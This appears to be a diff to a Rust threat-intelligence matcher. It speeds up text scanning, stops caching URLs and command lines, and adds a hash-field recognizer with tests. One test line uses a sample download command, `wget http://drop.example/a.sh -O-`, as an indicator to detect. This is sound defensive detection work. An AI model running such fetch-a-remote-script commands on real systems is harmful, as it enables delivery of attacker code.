@@ -173,7 +173,13 @@ impl Intel {
     pub fn text_hits(&self, text: &str, out: &mut Vec<u32>) {
         if let Some(ac) = &self.text {
             let b = text.as_bytes();
-            for m in ac.find_overlapping_iter(b) {
+            // most text matches nothing: one plain scan says so, faster than the overlapping one
+            let overlapping = if ac.is_match(b) {
+                Some(ac.find_overlapping_iter(b))
+            } else {
+                None
+            };
+            for m in overlapping.into_iter().flatten() {
                 let (ids, domain) = &self.text_ids[m.pattern().as_usize()];
                 if *domain && !domain_bounded(b, m.start(), m.end()) {
                     continue;
@@ -201,8 +207,9 @@ impl Intel {
     }
 
     /// The indicators an event matches apart from its addresses (text fields and hashes),
-    /// added to `out`. `seen` remembers the hits of text values met before (User-Agents,
-    /// referrers and many URLs repeat), so each distinct value is scanned once per thread.
+    /// added to `out`. `seen` remembers the hits of values that repeat (User-Agents,
+    /// referrers, host names), so each distinct one is scanned once per thread; URLs and
+    /// command lines are nearly all distinct and are scanned as they come.
     pub fn event_text_hits(&self, ev: &Event, out: &mut Vec<u32>, seen: &mut TextCache) {
         if self.text.is_none() && self.v4.is_empty() && self.v6.is_empty() && self.hashes.is_empty()
         {
@@ -211,6 +218,10 @@ impl Intel {
         for (f, v) in &ev.fields {
             if TEXT_FIELDS.contains(f) {
                 let text = ev.val_str(v);
+                if matches!(*f, Field::URL_ORIGINAL | Field::PROCESS_COMMAND_LINE) {
+                    self.text_hits(&text, out);
+                    continue;
+                }
                 if let Some(hits) = seen.get(&*text) {
                     out.extend_from_slice(hits);
                     continue;
@@ -223,7 +234,7 @@ impl Intel {
                 seen.insert(text.as_ref().into(), out[n..].into());
             } else if !self.hashes.is_empty()
                 && matches!(v, Val::Span(..) | Val::Str(_))
-                && f.name().contains("hash")
+                && is_hash_field(f.name())
             {
                 self.hash_hits(&ev.val_str(v), out);
             }
@@ -236,6 +247,13 @@ impl Intel {
         hits.sort_unstable();
         hits.dedup();
     }
+}
+
+/// Fields that hold file hashes: ECS `*.hash.*`, and the `md5`/`sha1`/`sha256`/`sha512` keys
+/// of Suricata's fileinfo, Zeek's files.log, FIM and EDR records.
+fn is_hash_field(name: &str) -> bool {
+    let last = name.rsplit('.').next().unwrap_or(name);
+    name.contains("hash") || matches!(last, "md5" | "sha1" | "sha256" | "sha512")
 }
 
 /// A file, or the feeds in a directory (a MISP feed directory is one feed).
@@ -436,6 +454,22 @@ mod tests {
         assert!(hits("evil.example.org").is_empty());
         assert_eq!(hits("evil.example. done"), [0]);
         assert_eq!(hits("wget http://drop.example/a.sh -O-"), [1]);
+    }
+
+    #[test]
+    fn hash_fields_are_named_as_the_sources_name_them() {
+        for f in [
+            "file.hash.sha256",
+            "process.hash.md5",
+            "fileinfo.sha256",
+            "md5",
+            "sha1",
+        ] {
+            assert!(is_hash_field(f), "{f}");
+        }
+        for f in ["url.original", "file.path", "sha256sum_cmd"] {
+            assert!(!is_hash_field(f), "{f}");
+        }
     }
 
     #[test]
